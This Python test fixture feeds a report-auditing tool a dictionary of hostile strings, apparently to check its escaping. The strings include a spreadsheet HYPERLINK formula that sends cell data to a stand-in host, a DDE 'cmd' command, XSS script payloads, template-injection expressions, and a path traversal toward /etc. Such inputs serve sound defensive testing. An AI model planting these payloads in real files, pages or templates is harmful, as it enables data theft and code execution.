"""Text that tries to be more than text, and an audit in which everything is made of it."""

from __future__ import annotations

from dataclasses import replace
from hashlib import sha256

from followup.model import (
    Assessment,
    Audit,
    Commitment,
    Document,
    Flags,
    Found,
    Government,
    Grade,
    Identity,
    Kind,
    Link,
    Note,
    Reason,
    Report,
    Role,
    Section,
    Span,
    Verdict,
    commitment_id,
)

MARK = "标记"
"""Stands in every hostile text, so that the text can be found again in an output."""
HOSTILE = {
    "formula": '=HYPERLINK("http://a.test/?"&A1,"标记")',
    "plus": "+1+cmd|' /C calc'!A0标记",
    "minus": "-2+3标记",
    "at": "@SUM(1+1)*标记",
    "tab": "\t=1+1标记",
    "return": "\r=1+1标记",
    "full width": "＝1+1标记",
    "number": "1234567890123标记",
    "script": "<script>alert('标记')</script>",
    "image": "<img src=x onerror=alert(1)>标记",
    "end of script": "</script></style></textarea><!--标记-->",
    "attribute": '" onmouseover="alert(1)" x=\'标记',
    "entity": "&lt;b&gt;标记&#60;i&#62;&amp;",
    "cdata": "]]><w:p/><?php 标记 ?>",
    "markdown link": "[标记](javascript:alert(1)) ![x](http://a.test/x.png) <http://b.test>",
    "reference": '[标记]: http://a.test "x"',
    "auto link": "http://a.test/标记 www.a.test a@a.test",
    "table": "a | 标记 | b\\| c",
    "heading": "# 标记\n## 二\n===\n---",
    "list": "- 标记\n1. b\n> c",
    "code": "```\n标记\n```\n    x `y`",
    "emphasis": "**标记** __b__ ~~c~~ $x^2$",
    "expression": "{{ 7*7 }}标记{{ config }}",
    "statement": "{% for x in range(9) %}标记{% endfor %}{# 标记 #}",
    "mark": "【落实情况】标记{{ chapter }}{{ fulfilled }}",
    "right to left": "\u202e标记\u202c\u2066x\u2069",
    "zero width": "标\u200b\u200d\ufeff记",
    "control": "标\x00记\x07\x1b[31m\x1b]8;;http://a.test\x07\x7f\x85",
    "surrogate": "标记\ud800\udfff",
    "not a character": "标记\ufffe\uffff\U0001fffe",
    "line separators": "标记\u2028x\u2029y\x0bz\x0c",
    "combining": "标记" + "\u0301" * 80,
    "astral": "标记𠮷😀",
    "very long": "标记" + "极" * 40_000,
    "up": "../../../etc/标记",
    "windows": "C:\\..\\CON:标记|?*",
}


def audit_of(text: str) -> Audit:
    """An audit whose reports, headings, names, reasons and passages all are ``text``."""
    body = f"{text}\n{text}"
    span = Span(0, len(text))
    digest = sha256(body.encode(errors="replace")).hexdigest()
    document = Document(digest, "text/plain", f"{text[:300]}.txt", body, encoding="utf-8")
    identity = Identity(
        government=Found(Government(text, "county", known=False), "title", span),
        reviewed_year=Found(2024, "title"),
        planned_year=Found(2025, "title"),
        title=Found(text, "title", span),
    )
    commitments = tuple(
        Commitment(
            commitment_id(digest, span, kind),
            span,
            text,
            kind,
            (text, text),
            topic=text[:40],
            owner=text,
            enumeration=text,
        )
        for kind in Kind
    )
    link = Link(span, text, 0.9, Grade.STRONG, {"wording": 0.9}, Role.RETROSPECT, (text,))
    reasons = (Reason("figure_short", {"target": text, "said": text}), Reason("x", {"a": text}))
    assessments = tuple(
        Assessment(
            commitment.id,
            verdict,
            0.5,
            "figure_short",
            reasons,
            Flags(carried_over=True),
            evidence=(link,) if verdict is not Verdict.MISSING else (),
            candidates=(link,),
        )
        for commitment, verdict in zip(commitments, Verdict, strict=True)
    )
    sections = (Section(Role.PLAN, text, Span(0, len(body)), span),)
    plan = Report(document, identity, sections, commitments, notes=(Note("x", {"what": text}),))
    outcome = replace(plan, commitments=(), notes=())
    return Audit(plan, outcome, assessments, settings={"version": text, text[:50]: text})
